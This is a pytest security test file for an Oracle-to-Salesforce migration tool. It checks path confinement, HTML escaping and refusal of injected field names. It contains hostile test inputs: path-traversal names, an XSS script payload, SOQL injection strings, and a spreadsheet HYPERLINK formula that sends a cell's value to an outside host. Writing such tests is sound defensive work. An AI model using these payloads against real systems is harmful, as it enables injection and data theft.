"""What docs/security.md says of hostile names, values and answers."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from typing import Any

import nbformat
import papermill  # noqa: F401 - imports the engine itself
import pytest

from mending import GOOD, mending
from ora2sf import engine, open_run
from ora2sf.errors import Ora2sfError, ParameterError, TargetError
from ora2sf.report import Shown
from ora2sf.salesforce import SalesforceBulkLoader, SalesforceClient
from ora2sf.salesforce.rest import job_id_in

SCRIPT = "<script>alert('x')</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://example.com/?"&A1,"click")'


@pytest.mark.parametrize(
    "name", ["../x", "a/b", "..", ".", "/etc", "a\\b", "x\0", "a\nb", "", "~", "*", "x" * 81]
)
@pytest.mark.parametrize("parameter", ["run_id", "table", "window"])
def test_no_name_leads_out_of_the_outputs_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, parameter: str, name: str
) -> None:
    (tmp_path / "tables").mkdir()
    monkeypatch.setenv("ORA2SF_HOME", str(tmp_path))
    names = {"run_id": "r", "table": "item", "outputs": "outputs"} | {parameter: name}
    with pytest.raises(Ora2sfError):
        open_run("01_extract", names)
    assert [path.name for path in tmp_path.iterdir()] == ["tables"]


@pytest.mark.parametrize("answered", ["../../../x", "750/x", "", "750" + "x" * 13, "750aaaaaaaaaaaa\n", None])
def test_a_server_cannot_choose_where_a_result_file_goes(answered: str | None) -> None:
    with pytest.raises(TargetError, match="a job whose Id is none"):
        job_id_in({"id": answered})
    assert job_id_in({"id": "750000000000001AAA"}) == "750000000000001AAA"


def test_a_job_with_such_an_id_is_not_begun(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    client = SalesforceClient()
    monkeypatch.setattr(client, "send", lambda *_, **__: None)
    monkeypatch.setattr(client, "parsed", lambda _: {"id": "../../evil"})
    with pytest.raises(TargetError, match="check the proxy"):
        SalesforceBulkLoader(client, "Item__c", "Ext__c", logs=tmp_path).create_job()


def test_values_of_rows_are_text_in_a_notebook_and_in_its_page(tmp_path: Path) -> None:
    shown = Shown(f"The first row has {SCRIPT}", [{SCRIPT: SCRIPT}])
    outputs = [
        nbformat.v4.new_output(
            "execute_result",
            data={"text/html": shown._repr_html_(), "text/plain": repr(shown)},
            execution_count=1,
        ),
        nbformat.v4.new_output("stream", name="stdout", text=SCRIPT),
        nbformat.v4.new_output(
            "error", ename="TargetError", evalue=SCRIPT, traceback=[f"TargetError: {SCRIPT}"]
        ),
    ]
    cell = nbformat.v4.new_code_cell("run.samples()", outputs=outputs, execution_count=1)
    engine._keep(nbformat.v4.new_notebook(cells=[cell]), str(tmp_path / "01_extract.ipynb"))
    page = (tmp_path / "01_extract.html").read_text(encoding="utf-8")
    assert page.count("&lt;script&gt;alert") >= 4
    assert not re.search(r"<script>alert|<img src=x", page)


def test_hostile_values_reach_salesforce_byte_for_byte_and_no_query_of_ours_runs_them(
    oracle_and_rows: Any, tmp_path: Path
) -> None:
    key = "k' OR Ext__c != '"
    rows = [
        *GOOD[:2],
        (key, SCRIPT[:20], "Piece", 1, "01/02/2025", FORMULA),
        ("\\'; DROP", "x", "Box", 2, "01/02/2025", "007"),
    ]
    with mending(oracle_and_rows[0], tmp_path, rows) as place:
        place.load()
        run = place.open("03_reconcile", compare="sample(4)")
        run.fetch_missing()
        run.balance()
        assert "All 4" in repr(run.compare()) or "4" in repr(run.compare())
        run.verdict()
        assert (
            place.held("Code__c")[key] == FORMULA
        )  # exactly: nothing is put before it for a spreadsheet's sake
        assert place.held("Name__c")[key] == SCRIPT[:20]
        assert len(place.held("Name__c")) == 4
        report = json.loads((place.folder / "report.json").read_text(encoding="utf-8"))
        assert report["comparison"]["different"] == report["comparison"]["missing"] == 0
        (file,) = place.logs.glob("*_success.csv")
        with file.open(encoding="utf-8", newline="") as lines:
            assert FORMULA in {row["Code__c"] for row in csv.DictReader(lines)}


def test_a_table_file_cannot_put_soql_where_an_api_name_belongs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from mending import TABLE

    (tmp_path / "tables").mkdir()
    monkeypatch.setenv("ORA2SF_HOME", str(tmp_path))
    hostile = {
        'object = "Item__c"': 'object = "Item__c WHERE Id != null"',
        'external_id_field = "Ext__c"': 'external_id_field = "Ext__c FROM User --"',
        'field = "Code__c"': 'field = "Code__c,Id FROM User"',
    }
    for good, bad in hostile.items():
        assert TABLE.count(good) >= 1
        (tmp_path / "tables/item.toml").write_text(TABLE.replace(good, bad, 1), encoding="utf-8")
        with pytest.raises(Ora2sfError, match=r"item\.toml") as refused:
            open_run("01_extract", {"run_id": "r", "table": "item", "outputs": "outputs"})
        assert not isinstance(refused.value, ParameterError)
